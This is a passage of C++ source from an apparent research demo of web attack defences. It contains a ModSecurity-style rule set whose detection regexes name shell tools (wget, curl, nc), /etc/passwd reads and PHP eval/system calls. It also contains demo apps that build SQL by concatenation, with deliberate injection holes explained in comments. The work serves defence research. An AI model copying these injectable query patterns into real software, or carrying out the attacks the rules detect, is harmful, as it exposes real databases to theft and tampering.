// browsers ... before they reach the web application").
#pragma once

#include <mutex>
#include <string>
#include <vector>

#include "web/http.h"
#include "web/waf/rule.h"

namespace septic::web::waf {

/// The CRS-lite rule set (crs_rules.cpp).
std::vector<Rule> make_crs_rules();

struct WafDecision {
  bool blocked = false;
  int anomaly_score = 0;
  std::vector<RuleMatch> matches;
};

class Waf {
 public:
  /// Default: CRS-lite rules, inbound threshold 5.
  Waf();
  Waf(std::vector<Rule> rules, int inbound_threshold);

  bool enabled() const { return enabled_; }
  void set_enabled(bool on) { enabled_ = on; }

  /// Inspect a request. Does not mutate it.
  WafDecision inspect(const Request& request) const;

  /// Audit log of blocked requests (the demo's "ModSecurity display").
  struct AuditEntry {
    std::string request;
    WafDecision decision;
  };
  void audit(const Request& request, const WafDecision& decision);
  std::vector<AuditEntry> audit_log() const;
  void clear_audit_log();

  const std::vector<Rule>& rules() const { return rules_; }

 private:
  std::vector<Rule> rules_;
  int threshold_;
  bool enabled_ = true;
  mutable std::mutex mu_;
  std::vector<AuditEntry> audit_log_;
};

}  // namespace septic::web::waf

// CRS-lite: a representative subset of the OWASP ModSecurity Core Rule Set
// 3.0 rules used in the demo (SQLI, XSS, LFI/RFI, command injection, PHP
// injection). Rule ids mirror their CRS counterparts; regexes are
// simplified but honest re-implementations of what those rules match — and
// therefore share their blind spots:
//   - all matching happens on the ASCII byte stream the browser sent; the
//     rules cannot know that MySQL will later collapse U+02BC into a quote
//     or evaluate /*!...*/ bodies it can also see but scores low;
//   - second-order payloads never traverse the WAF at exploit time.
#include "web/waf/waf.h"

namespace septic::web::waf {

std::vector<Rule> make_crs_rules() {
  using T = Transform;
  std::vector<Rule> rules;
  const std::vector<T> kStd = {T::kUrlDecode, T::kLowercase,
                               T::kCompressWhitespace};

  // ---- SQL injection (942xxx) ----
  rules.emplace_back(
      942100, "SQL Injection Attack Detected via libinjection-style signature",
      "sqli", RuleTarget::kArgs, kStd,
      R"((['"`])\s*(or|and)\s+[\w'"`]+\s*=\s*[\w'"`]+)", 5);
  rules.emplace_back(
      942130, "SQL Injection Attack: SQL Tautology Detected", "sqli",
      RuleTarget::kArgs, kStd,
      R"(\b(\d+)\s*=\s*\1\b|\bor\s+1\s*=\s*1\b|\band\s+1\s*=\s*1\b|'[^']*'\s*=\s*'[^']*')",
      5);
  rules.emplace_back(
      942190, "Detects MSSQL/MySQL UNION-based injections", "sqli",
      RuleTarget::kArgs, kStd,
      R"(\bunion\b.{0,40}\bselect\b|\bselect\b.{0,60}\bfrom\b.{0,40}\b(information_schema|users|passwd|mysql)\b)",
      5);
  rules.emplace_back(
      942440, "SQL Comment Sequence Detected", "sqli", RuleTarget::kArgs,
      std::vector<T>{T::kUrlDecode, T::kLowercase},
      R"(['";]\s*(--|#)|\*\/|\/\*[\s\S]{0,100}?\*\/)", 5);
  rules.emplace_back(
      942500, "MySQL in-line comment detected", "sqli", RuleTarget::kArgs,
      std::vector<T>{T::kUrlDecode, T::kLowercase}, R"(\/\*!)", 5);
  rules.emplace_back(
      942160, "Detects blind SQLI via sleep/benchmark", "sqli",
      RuleTarget::kArgs, kStd, R"(\b(sleep|benchmark)\s*\()", 5);
  rules.emplace_back(
      942360, "Detects concatenated basic SQL injection / DDL", "sqli",
      RuleTarget::kArgs, kStd,
      R"(\b(drop|alter|truncate)\s+table\b|\binsert\s+into\b|\bdelete\s+from\b)",
      5);

  // ---- XSS (941xxx) ----
  rules.emplace_back(941100, "XSS Attack Detected via libinjection", "xss",
                     RuleTarget::kArgs,
                     std::vector<T>{T::kUrlDecode, T::kHtmlEntityDecode, T::kLowercase},
                     R"(<script[\s>/]|<\s*script)", 5);
  rules.emplace_back(
      941110, "XSS Filter - Category 1: Script Tag Vector", "xss",
      RuleTarget::kArgs, std::vector<T>{T::kUrlDecode, T::kHtmlEntityDecode, T::kLowercase},
      R"(<script[^>]*>[\s\S]*?)", 5);
  rules.emplace_back(
      941160, "NoScript XSS InjectionChecker: HTML Injection", "xss",
      RuleTarget::kArgs, std::vector<T>{T::kUrlDecode, T::kHtmlEntityDecode, T::kLowercase},
      // Common handler list: the CRS pattern enumeration circa 3.0; rare
      // handlers (ontoggle, onauxclick, ...) are the known gap.
      R"(<\w+[^>]*\s(onerror|onload|onclick|onmouseover|onmouseout|onfocus|onblur|onsubmit|onchange|onkeyup|onkeydown)\s*=)",
      5);
  rules.emplace_back(941170, "JavaScript URI in attribute", "xss",
                     RuleTarget::kArgs,
                     std::vector<T>{T::kUrlDecode, T::kHtmlEntityDecode, T::kLowercase},
                     R"((href|src|action)\s*=\s*['"]?\s*(javascript|vbscript):)",
                     5);
  rules.emplace_back(941180, "Document/window JS property access", "xss",
                     RuleTarget::kArgs,
                     std::vector<T>{T::kUrlDecode, T::kHtmlEntityDecode, T::kLowercase},
                     R"(document\.cookie|document\.write|window\.location|\balert\s*\()",
                     4);

  // ---- LFI / path traversal (930xxx) ----
  rules.emplace_back(930100, "Path Traversal Attack (/../)", "lfi",
                     RuleTarget::kArgs, std::vector<T>{T::kUrlDecode},
                     R"(\.\.[\/\\])", 5);
  rules.emplace_back(930120, "OS File Access Attempt", "lfi",
                     RuleTarget::kArgs, std::vector<T>{T::kUrlDecode, T::kLowercase},
                     R"(/etc/(passwd|shadow|hosts)|boot\.ini|windows/system32)",
                     5);

  // ---- RFI (931xxx) ----
  rules.emplace_back(
      931100, "RFI: URL Parameter using IP Address", "rfi", RuleTarget::kArgs,
      std::vector<T>{T::kUrlDecode, T::kLowercase},
      R"((https?|ftp):\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})", 5);
  rules.emplace_back(
      931120, "RFI: URL payload with trailing question mark", "rfi",
      RuleTarget::kArgs, std::vector<T>{T::kUrlDecode, T::kLowercase},
      R"((https?|ftp):\/\/[^\s]+\.(php|asp|jsp)\?)", 5);

  // ---- OS command injection (932xxx) ----
  rules.emplace_back(
      932100, "Remote Command Execution: Unix Command Injection", "rce-os",
      RuleTarget::kArgs, std::vector<T>{T::kUrlDecode, T::kLowercase},
      R"([;&|`]\s*(cat|rm|wget|curl|nc|bash|sh|ping|chmod|python|perl)\b|\$\((cat|rm|wget|curl|nc|id|whoami))",
      5);

  // ---- request-line rules (920xxx / 930xxx on PATH) ----
  rules.emplace_back(930110, "Path Traversal Attack in request path", "lfi",
                     RuleTarget::kPath, std::vector<T>{T::kUrlDecode},
                     R"(\.\.[\/\\])", 5);
  rules.emplace_back(
      920440, "URL file extension is restricted by policy", "policy",
      RuleTarget::kPath, std::vector<T>{T::kUrlDecode, T::kLowercase},
      R"(\.(bak|old|orig|sql|env|git)$)", 5);
  rules.emplace_back(
      920230, "Multiple URL-encoding layers detected", "evasion",
      RuleTarget::kRawQuery, std::vector<T>{},
      R"(%25[0-9a-fA-F]{2})", 3);  // warning-level: double encoding smell

  // ---- PHP injection (933xxx) ----
  rules.emplace_back(933100, "PHP Injection: Opening Tag", "php",
                     RuleTarget::kArgs, std::vector<T>{T::kUrlDecode, T::kLowercase},
                     R"(<\?php|<\?=)", 5);
  rules.emplace_back(
      933150, "PHP Injection: High-Risk PHP Function Call", "php",
      RuleTarget::kArgs, std::vector<T>{T::kUrlDecode, T::kLowercase},
      R"(\b(eval|system|exec|shell_exec|passthru|assert|base64_decode)\s*\()",
      5);

  return rules;
}

}  // namespace septic::web::waf

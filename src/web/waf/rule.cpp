#include "web/waf/rule.h"

namespace septic::web::waf {

Rule::Rule(int id_, std::string msg_, std::string tag_, RuleTarget target_,
           std::vector<Transform> transforms_, std::string pattern_, int score)
    : id(id_),
      msg(std::move(msg_)),
      tag(std::move(tag_)),
      target(target_),
      transforms(std::move(transforms_)),
      pattern(std::move(pattern_)),
      re(pattern, std::regex::ECMAScript | std::regex::optimize),
      anomaly_score(score) {}

}  // namespace septic::web::waf

// One WAF rule: id, attack class, transformations, a regex over request
// arguments, and an anomaly score contribution (CRS-style scoring).
#pragma once

#include <regex>
#include <string>
#include <vector>

#include "web/waf/transform.h"

namespace septic::web::waf {

enum class RuleTarget {
  kArgs,       // every decoded parameter value
  kArgNames,   // parameter names
  kPath,       // request path
  kRawQuery,   // the url-encoded parameter string
};

struct Rule {
  int id = 0;                 // CRS-style rule id (942100, ...)
  std::string msg;            // human description
  std::string tag;            // attack class: "sqli", "xss", "lfi", ...
  RuleTarget target = RuleTarget::kArgs;
  std::vector<Transform> transforms;
  std::string pattern;        // original regex text (for reporting)
  std::regex re;              // compiled, case-sensitive (use lowercase
                              // transform for case-insensitive behaviour)
  int anomaly_score = 5;      // CRS critical=5, error=4, warning=3

  Rule(int id_, std::string msg_, std::string tag_, RuleTarget target_,
       std::vector<Transform> transforms_, std::string pattern_,
       int score = 5);
};

struct RuleMatch {
  int rule_id = 0;
  std::string msg;
  std::string tag;
  std::string matched_value;  // the transformed value that matched
};

}  // namespace septic::web::waf

#include "web/waf/transform.h"

#include "common/string_util.h"
#include "common/unicode.h"
#include "septic/plugins/html_parser.h"

namespace septic::web::waf {

namespace {

std::string remove_comments(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '/' && i + 1 < s.size() && s[i + 1] == '*') {
      size_t end = s.find("*/", i + 2);
      if (end == std::string_view::npos) break;
      i = end + 1;
      out += ' ';
      continue;
    }
    if (s[i] == '-' && i + 1 < s.size() && s[i + 1] == '-') {
      break;  // rest of line commented
    }
    if (s[i] == '#') break;
    out += s[i];
  }
  return out;
}

}  // namespace

std::string apply_transform(Transform t, std::string_view input) {
  switch (t) {
    case Transform::kLowercase:
      return common::to_lower(input);
    case Transform::kUrlDecode:
      return common::url_decode(input);
    case Transform::kHtmlEntityDecode:
      return core::html::decode_entities(input);
    case Transform::kCompressWhitespace:
      return common::compress_whitespace(input);
    case Transform::kRemoveComments:
      return remove_comments(input);
    case Transform::kReplaceNulls: {
      std::string out(input);
      for (char& c : out) {
        if (c == '\0') c = ' ';
      }
      return out;
    }
  }
  return std::string(input);
}

std::string apply_transforms(const std::vector<Transform>& ts,
                             std::string_view input) {
  std::string cur(input);
  for (Transform t : ts) cur = apply_transform(t, cur);
  return cur;
}

const char* transform_name(Transform t) {
  switch (t) {
    case Transform::kLowercase: return "lowercase";
    case Transform::kUrlDecode: return "urlDecode";
    case Transform::kHtmlEntityDecode: return "htmlEntityDecode";
    case Transform::kCompressWhitespace: return "compressWhitespace";
    case Transform::kRemoveComments: return "removeComments";
    case Transform::kReplaceNulls: return "replaceNulls";
  }
  return "?";
}

}  // namespace septic::web::waf

// ModSecurity-style input transformations, applied to a request value
// before rule regexes run. Names follow ModSecurity's actions.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace septic::web::waf {

enum class Transform {
  kLowercase,
  kUrlDecode,           // one layer of %XX decoding
  kHtmlEntityDecode,
  kCompressWhitespace,
  kRemoveComments,      // strips /* */ and -- and # comment syntax
  kReplaceNulls,        // NUL -> space
};

std::string apply_transform(Transform t, std::string_view input);

/// Apply a pipeline in order.
std::string apply_transforms(const std::vector<Transform>& ts,
                             std::string_view input);

const char* transform_name(Transform t);

}  // namespace septic::web::waf

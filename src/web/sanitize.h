// PHP-compatible sanitization functions (paper Section I: "sanitization of
// user inputs ... functions provided by the language, e.g.
// mysql_real_escape_string"). Semantics follow the PHP/libmysql originals
// byte-for-byte — including their blind spots, which the semantic-mismatch
// attacks exploit:
//   - mysql_real_escape_string escapes only NUL, \n, \r, \, ', " and ^Z;
//     multi-byte codepoints such as U+02BC pass through untouched.
//   - escaping is useless when the value lands in an unquoted numeric
//     context.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

namespace septic::web::php {

/// libmysql's mysql_real_escape_string (latin1/utf8 connection charset).
std::string mysql_real_escape_string(std::string_view s);

/// PHP addslashes: escapes ', ", \ and NUL only.
std::string addslashes(std::string_view s);

/// PHP intval with base 10: numeric prefix, 0 otherwise.
int64_t intval(std::string_view s);

/// PHP floatval.
double floatval(std::string_view s);

/// PHP is_numeric (integer/float syntax, leading whitespace allowed).
bool is_numeric(std::string_view s);

/// PHP htmlspecialchars (ENT_QUOTES): & < > " ' to entities.
std::string htmlspecialchars(std::string_view s);

/// PHP strip_tags: removes <...> sequences.
std::string strip_tags(std::string_view s);

}  // namespace septic::web::php

// The PHP-application shim: a tiny web framework whose handlers build SQL
// strings by concatenation (with sanitizer calls), exactly as the PHP
// applications in the paper do. Also defines the connection abstraction so
// a GreenSQL-style proxy can be interposed between application and DBMS.
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "engine/database.h"
#include "engine/error.h"
#include "web/http.h"
#include "web/proxy.h"

namespace septic::web {

// ------------------------------------------------------------- connections

/// Where the application sends its queries: directly to the DBMS, or
/// through a proxy firewall.
class DbConnection {
 public:
  virtual ~DbConnection() = default;
  virtual engine::ResultSet query(engine::Session& session,
                                  std::string_view sql) = 0;
  /// Prepared-statement path (PDO-style): the template carries `?`
  /// placeholders, values are bound out-of-band.
  virtual engine::ResultSet query_prepared(
      engine::Session& session, std::string_view template_sql,
      const std::vector<sql::Value>& params) = 0;
};

class DirectConnection final : public DbConnection {
 public:
  explicit DirectConnection(engine::Database& db) : db_(db) {}
  engine::ResultSet query(engine::Session& session,
                          std::string_view sql) override {
    return db_.execute(session, sql);
  }
  engine::ResultSet query_prepared(
      engine::Session& session, std::string_view template_sql,
      const std::vector<sql::Value>& params) override {
    return db_.execute_prepared(session, template_sql, params);
  }

 private:
  engine::Database& db_;
};

/// Routes queries through a QueryFirewall first. Blocked queries surface as
/// DbError(kBlocked) with a "proxy:" reason, like a dropped connection
/// would in a real deployment.
class ProxyConnection final : public DbConnection {
 public:
  ProxyConnection(QueryFirewall& firewall, DbConnection& next)
      : firewall_(firewall), next_(next) {}
  engine::ResultSet query(engine::Session& session,
                          std::string_view sql) override {
    if (!firewall_.check(sql)) {
      throw engine::DbError(engine::ErrorCode::kBlocked,
                            "proxy: unknown query fingerprint");
    }
    return next_.query(session, sql);
  }
  engine::ResultSet query_prepared(
      engine::Session& session, std::string_view template_sql,
      const std::vector<sql::Value>& params) override {
    // The proxy fingerprints the template text; bound parameters are
    // invisible to it (they never appear as statement bytes).
    if (!firewall_.check(template_sql)) {
      throw engine::DbError(engine::ErrorCode::kBlocked,
                            "proxy: unknown query fingerprint");
    }
    return next_.query_prepared(session, template_sql, params);
  }

 private:
  QueryFirewall& firewall_;
  DbConnection& next_;
};

// ---------------------------------------------------------------- app model

/// A form the training crawler can discover and fill with benign inputs.
struct FormField {
  std::string name;
  std::string sample;  // a benign value the crawler submits
};

struct FormSpec {
  Method method = Method::kPost;
  std::string path;
  std::vector<FormField> fields;
};

/// Per-request execution context handed to route handlers.
class AppContext {
 public:
  AppContext(DbConnection& conn, std::string app_name, bool emit_external_ids)
      : conn_(conn),
        app_name_(std::move(app_name)),
        emit_external_ids_(emit_external_ids) {}

  /// Execute a query, prepending the SSLE external-identifier comment
  /// ("/* ID:<app>:<site> */") when enabled. DbError propagates.
  engine::ResultSet sql(std::string query, std::string_view site);

  /// Prepared-statement flavour (the PDO-style code path some handlers
  /// use for writes).
  engine::ResultSet sql_prepared(std::string template_query,
                                 std::vector<sql::Value> params,
                                 std::string_view site);

  engine::Session& session() { return session_; }
  int64_t last_insert_id() const { return session_.last_insert_id(); }

 private:
  DbConnection& conn_;
  engine::Session session_;
  std::string app_name_;
  bool emit_external_ids_;
};

class App {
 public:
  virtual ~App() = default;

  virtual std::string name() const = 0;

  /// Create tables and seed data (admin path: bypasses protections).
  virtual void install(engine::Database& db) = 0;

  /// Entry points for the training crawler.
  virtual std::vector<FormSpec> forms() const = 0;

  /// Handle one request. Database failures must be caught by the caller
  /// (WebStack) — handlers just let DbError propagate.
  virtual Response handle(const Request& request, AppContext& ctx) = 0;

  /// The recorded benign workload (BenchLab-style request sequence).
  virtual std::vector<Request> workload() const = 0;
};

/// Render rows as a simple HTML-ish table body (what handlers echo back).
std::string render_rows(const engine::ResultSet& rs);

}  // namespace septic::web

#include "web/http.h"

#include "common/unicode.h"

namespace septic::web {

const char* method_name(Method m) {
  return m == Method::kGet ? "GET" : "POST";
}

Request Request::get(std::string path,
                     std::map<std::string, std::string> params) {
  Request r;
  r.method = Method::kGet;
  r.path = std::move(path);
  r.params = std::move(params);
  return r;
}

Request Request::post(std::string path,
                      std::map<std::string, std::string> params) {
  Request r;
  r.method = Method::kPost;
  r.path = std::move(path);
  r.params = std::move(params);
  return r;
}

std::string Request::encoded_params() const {
  std::string out;
  for (const auto& [k, v] : params) {
    if (!out.empty()) out += '&';
    out += common::url_encode(k);
    out += '=';
    out += common::url_encode(v);
  }
  return out;
}

std::string Request::to_string() const {
  std::string out = method_name(method);
  out += ' ';
  out += path;
  std::string enc = encoded_params();
  if (!enc.empty()) {
    out += method == Method::kGet ? '?' : ' ';
    out += enc;
  }
  return out;
}

}  // namespace septic::web

#include "web/apps/zerocms.h"

#include "web/sanitize.h"

namespace septic::web::apps {

namespace {
std::string param(const Request& r, const std::string& key) {
  auto it = r.params.find(key);
  return it == r.params.end() ? std::string() : it->second;
}
}  // namespace

void ZeroCmsApp::install(engine::Database& db) {
  db.execute_admin(
      "CREATE TABLE cms_users ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " username TEXT NOT NULL,"
      " passhash TEXT NOT NULL,"
      " bio TEXT)");
  db.execute_admin(
      "CREATE TABLE articles ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " author_id INT NOT NULL,"
      " title TEXT NOT NULL,"
      " body TEXT,"
      " views INT DEFAULT 0)");
  db.execute_admin(
      "CREATE TABLE comments ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " article_id INT NOT NULL,"
      " author TEXT,"
      " body TEXT)");
  db.execute_admin(
      "INSERT INTO cms_users (username, passhash, bio) VALUES "
      "('editor', 'x1', 'site editor'), ('reader', 'x2', 'casual reader')");
  db.execute_admin(
      "INSERT INTO articles (author_id, title, body) VALUES "
      "(1, 'Welcome to ZeroCMS', 'First post.'),"
      "(1, 'Securing web apps', 'Sanitize your inputs... or better.'),"
      "(2, 'Reader diary', 'Notes from a reader.')");
  db.execute_admin(
      "INSERT INTO comments (article_id, author, body) VALUES "
      "(1, 'reader', 'Nice site!'), (2, 'reader', 'What about SEPTIC?')");


  // Realistic production indexes (exercised by the engine's index
  // access path; EXPLAIN shows 'ref (secondary index)' on these columns).
  db.execute_admin("CREATE INDEX idx_comments_article ON comments (article_id)");
  db.execute_admin("CREATE INDEX idx_articles_author ON articles (author_id)");
}

std::vector<FormSpec> ZeroCmsApp::forms() const {
  return {
      {Method::kPost, "/article/new",
       {{"author_id", "1"}, {"title", "Draft"}, {"body", "Draft body."}}},
      {Method::kPost, "/comment/add",
       {{"article_id", "1"}, {"author", "reader"}, {"body", "A comment."}}},
      {Method::kPost, "/login", {{"username", "editor"}, {"password", "pw"}}},
      {Method::kPost, "/comment/delete", {{"id", "2"}}},
      {Method::kGet, "/article", {{"id", "1"}}},
      {Method::kGet, "/user", {{"id", "1"}}},
      {Method::kGet, "/search", {{"q", "web"}}},
      {Method::kGet, "/", {}},
  };
}

Response ZeroCmsApp::handle(const Request& request, AppContext& ctx) {
  using php::intval;
  using php::mysql_real_escape_string;

  // Static web objects: no DBMS interaction at all.
  if (request.path.rfind("/static/", 0) == 0) {
    return Response::make_ok(std::string(512, '#'));  // pretend bytes
  }

  if (request.path == "/") {
    auto rs = ctx.sql(
        "SELECT a.id, a.title, u.username, a.views FROM articles a JOIN "
        "cms_users u ON a.author_id = u.id ORDER BY a.id DESC LIMIT 10",
        "front");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/article") {
    int64_t id = intval(param(request, "id"));
    ctx.sql("UPDATE articles SET views = views + 1 WHERE id = " +
                std::to_string(id),
            "article-views");
    auto rs = ctx.sql(
        "SELECT title, body, views FROM articles WHERE id = " +
            std::to_string(id),
        "article");
    auto comments = ctx.sql(
        "SELECT author, body FROM comments WHERE article_id = " +
            std::to_string(id) + " ORDER BY id",
        "article-comments");
    return Response::make_ok(render_rows(rs) + render_rows(comments));
  }
  if (request.path == "/user") {
    int64_t id = intval(param(request, "id"));
    auto rs = ctx.sql(
        "SELECT username, bio FROM cms_users WHERE id = " + std::to_string(id),
        "user");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/search") {
    std::string q = mysql_real_escape_string(param(request, "q"));
    auto rs = ctx.sql(
        "SELECT id, title FROM articles WHERE title LIKE '%" + q +
            "%' OR body LIKE '%" + q + "%' ORDER BY id DESC",
        "search");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/login") {
    std::string user = mysql_real_escape_string(param(request, "username"));
    std::string pass = mysql_real_escape_string(param(request, "password"));
    auto rs = ctx.sql(
        "SELECT id FROM cms_users WHERE username = '" + user +
            "' AND passhash = MD5('" + pass + "')",
        "login");
    return Response::make_ok(rs.rows.empty() ? "login failed\n"
                                             : "welcome back\n");
  }
  if (request.path == "/article/new") {
    int64_t author = intval(param(request, "author_id"));
    std::string title = mysql_real_escape_string(param(request, "title"));
    std::string body = mysql_real_escape_string(param(request, "body"));
    ctx.sql("INSERT INTO articles (author_id, title, body) VALUES (" +
                std::to_string(author) + ", '" + title + "', '" + body + "')",
            "article-new");
    return Response::make_ok("article " +
                             std::to_string(ctx.last_insert_id()) + "\n");
  }
  if (request.path == "/comment/add") {
    int64_t art = intval(param(request, "article_id"));
    std::string author = mysql_real_escape_string(param(request, "author"));
    std::string body = mysql_real_escape_string(param(request, "body"));
    ctx.sql("INSERT INTO comments (article_id, author, body) VALUES (" +
                std::to_string(art) + ", '" + author + "', '" + body + "')",
            "comment-add");
    return Response::make_ok("comment added\n");
  }
  if (request.path == "/comment/delete") {
    int64_t id = intval(param(request, "id"));
    auto rs = ctx.sql("DELETE FROM comments WHERE id = " + std::to_string(id),
                      "comment-delete");
    return Response::make_ok(std::to_string(rs.affected_rows) + " deleted\n");
  }
  return Response::not_found();
}

std::vector<Request> ZeroCmsApp::workload() const {
  // The 26-request recorded session: page views, one login, article/comment
  // writes, a delete, and static objects (paper Section II-F).
  return {
      Request::get("/"),
      Request::get("/static/style.css"),
      Request::get("/static/logo.png"),
      Request::get("/article", {{"id", "1"}}),
      Request::get("/static/avatar1.png"),
      Request::get("/article", {{"id", "2"}}),
      Request::get("/user", {{"id", "1"}}),
      Request::get("/search", {{"q", "web"}}),
      Request::post("/login", {{"username", "editor"}, {"password", "pw"}}),
      Request::post("/article/new",
                    {{"author_id", "1"}, {"title", "News of the day"},
                     {"body", "Fresh content."}}),
      Request::get("/"),
      Request::get("/static/style.css"),
      Request::get("/article", {{"id", "4"}}),
      Request::post("/comment/add",
                    {{"article_id", "4"}, {"author", "reader"},
                     {"body", "First!"}}),
      Request::get("/article", {{"id", "4"}}),
      Request::get("/static/banner.jpg"),
      Request::get("/user", {{"id", "2"}}),
      Request::get("/search", {{"q", "news"}}),
      Request::post("/comment/add",
                    {{"article_id", "1"}, {"author", "reader"},
                     {"body", "Still nice."}}),
      Request::get("/article", {{"id", "1"}}),
      Request::post("/comment/delete", {{"id", "1"}}),
      Request::get("/article", {{"id", "1"}}),
      Request::get("/"),
      Request::get("/static/footer.svg"),
      Request::get("/article", {{"id", "3"}}),
      Request::get("/"),
  };
}

}  // namespace septic::web::apps

// WaspMon-like energy-consumption monitoring application (paper Section
// III): manages devices of a household/factory, stores power readings
// collected from them, and lets users review history and schedule actions.
// Typical smart-grid deployment; compromises could cause "power imbalances
// in the grid".
//
// The programmer "was careful and used PHP sanitization functions ... to
// check all inputs" — every handler below sanitizes. The remaining attack
// surface is precisely the semantic-mismatch one the demo exploits.
#pragma once

#include "web/framework.h"

namespace septic::web::apps {

class WaspMonApp final : public App {
 public:
  std::string name() const override { return "waspmon"; }
  void install(engine::Database& db) override;
  std::vector<FormSpec> forms() const override;
  Response handle(const Request& request, AppContext& ctx) override;
  std::vector<Request> workload() const override;
};

}  // namespace septic::web::apps

// The paper's running example (Section II-C1/II-D1): a flight-ticket
// application whose lookup query is
//   SELECT * FROM tickets WHERE reservID = '?' AND creditCard = ?
// The developer was careful — every string input goes through
// mysql_real_escape_string — yet the app is vulnerable through the
// semantic mismatch:
//   - reservID: quoted, escaped — but Unicode confusable quotes survive
//     escaping and decode into quotes inside the server;
//   - creditCard: numeric context, embedded unquoted — escaping is
//     irrelevant there;
//   - /my-ticket: a second-order flow that trusts data previously stored
//     in the profiles table.
#pragma once

#include "web/framework.h"

namespace septic::web::apps {

class TicketsApp final : public App {
 public:
  std::string name() const override { return "tickets"; }
  void install(engine::Database& db) override;
  std::vector<FormSpec> forms() const override;
  Response handle(const Request& request, AppContext& ctx) override;
  std::vector<Request> workload() const override;
};

}  // namespace septic::web::apps

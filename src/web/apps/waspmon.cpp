#include "web/apps/waspmon.h"

#include "web/sanitize.h"

namespace septic::web::apps {

namespace {
std::string param(const Request& r, const std::string& key) {
  auto it = r.params.find(key);
  return it == r.params.end() ? std::string() : it->second;
}
}  // namespace

void WaspMonApp::install(engine::Database& db) {
  db.execute_admin(
      "CREATE TABLE devices ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " name TEXT NOT NULL,"
      " type TEXT,"
      " location TEXT,"
      " api_url TEXT,"
      " status TEXT DEFAULT 'online')");
  db.execute_admin(
      "CREATE TABLE readings ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " device_id INT NOT NULL,"
      " watts DOUBLE,"
      " ts TEXT)");
  db.execute_admin(
      "CREATE TABLE users ("
      " id INT PRIMARY KEY AUTO_INCREMENT,"
      " username TEXT NOT NULL,"
      " fullname TEXT,"
      " note TEXT)");
  db.execute_admin(
      "INSERT INTO devices (name, type, location, api_url) VALUES "
      "('fridge', 'appliance', 'kitchen', 'http://device.local/fridge'),"
      "('heatpump', 'hvac', 'basement', 'http://device.local/hp'),"
      "('solar-inverter', 'generation', 'roof', 'http://device.local/solar')");
  db.execute_admin(
      "INSERT INTO readings (device_id, watts, ts) VALUES "
      "(1, 120.5, '2017-06-25 10:00:00'),"
      "(1, 118.2, '2017-06-25 11:00:00'),"
      "(2, 850.0, '2017-06-25 10:00:00'),"
      "(3, -1500.0, '2017-06-25 12:00:00')");
  db.execute_admin(
      "INSERT INTO users (username, fullname, note) VALUES "
      "('admin', 'Grid Admin', 'installer account')");


  // Realistic production indexes (exercised by the engine's index
  // access path; EXPLAIN shows 'ref (secondary index)' on these columns).
  db.execute_admin("CREATE INDEX idx_readings_device ON readings (device_id)");
  db.execute_admin("CREATE INDEX idx_users_name ON users (username)");
}

std::vector<FormSpec> WaspMonApp::forms() const {
  return {
      {Method::kPost, "/device/add",
       {{"name", "dishwasher"},
        {"type", "appliance"},
        {"location", "kitchen"},
        {"api_url", "http://device.local/dw"}}},
      {Method::kPost, "/reading/add",
       {{"device_id", "1"}, {"watts", "99.5"}}},
      {Method::kGet, "/device/history",
       {{"device_id", "1"}, {"limit", "10"}}},
      {Method::kGet, "/device/search", {{"name", "fridge"}}},
      {Method::kPost, "/user/register",
       {{"username", "carol"}, {"fullname", "Carol Grid"},
        {"note", "new tenant"}}},
      {Method::kGet, "/device/by-user", {{"username", "admin"}}},
      {Method::kGet, "/devices", {}},
  };
}

Response WaspMonApp::handle(const Request& request, AppContext& ctx) {
  using php::intval;
  using php::mysql_real_escape_string;

  if (request.path == "/device/add" && request.method == Method::kPost) {
    std::string name = mysql_real_escape_string(param(request, "name"));
    std::string type = mysql_real_escape_string(param(request, "type"));
    std::string loc = mysql_real_escape_string(param(request, "location"));
    std::string url = mysql_real_escape_string(param(request, "api_url"));
    ctx.sql("INSERT INTO devices (name, type, location, api_url) VALUES ('" +
                name + "', '" + type + "', '" + loc + "', '" + url + "')",
            "device-add");
    return Response::make_ok("device registered (id " +
                             std::to_string(ctx.last_insert_id()) + ")\n");
  }

  if (request.path == "/reading/add" && request.method == Method::kPost) {
    // Numeric inputs: escaped, then embedded unquoted — the numeric-context
    // hole that escaping cannot close.
    std::string dev = mysql_real_escape_string(param(request, "device_id"));
    std::string watts = mysql_real_escape_string(param(request, "watts"));
    ctx.sql("INSERT INTO readings (device_id, watts, ts) VALUES (" +
                (dev.empty() ? "0" : dev) + ", " +
                (watts.empty() ? "0" : watts) + ", NOW())",
            "reading-add");
    return Response::make_ok("reading stored\n");
  }

  if (request.path == "/device/history") {
    std::string dev = mysql_real_escape_string(param(request, "device_id"));
    std::string limit = param(request, "limit");
    int64_t lim = limit.empty() ? 20 : intval(limit);  // intval: safe
    auto rs = ctx.sql("SELECT ts, watts FROM readings WHERE device_id = " +
                          (dev.empty() ? "0" : dev) +
                          " ORDER BY id DESC LIMIT " + std::to_string(lim),
                      "device-history");
    return Response::make_ok(render_rows(rs));
  }

  if (request.path == "/device/search") {
    std::string name = mysql_real_escape_string(param(request, "name"));
    auto rs = ctx.sql(
        "SELECT id, name, type, location, status FROM devices WHERE name "
        "LIKE '%" + name + "%' ORDER BY name",
        "device-search");
    return Response::make_ok(render_rows(rs));
  }

  if (request.path == "/user/register" && request.method == Method::kPost) {
    // Prepared write (values stored verbatim): immune to SQLI by
    // construction, but the stored bytes still carry XSS/OSCI/RCE payloads
    // and arm the second-order flow at /device/by-user — which is exactly
    // why SEPTIC's stored-injection plugins inspect INSERT data.
    ctx.sql_prepared(
        "INSERT INTO users (username, fullname, note) VALUES (?, ?, ?)",
        {sql::Value(param(request, "username")),
         sql::Value(param(request, "fullname")),
         sql::Value(param(request, "note"))},
        "user-register");
    return Response::make_ok("user registered\n");
  }

  if (request.path == "/device/by-user") {
    // Second-order: the user's stored note doubles as a device filter in a
    // later query (a real WaspMon-style misfeature: notes hold the device
    // name the tenant cares about). Stored data is not re-sanitized.
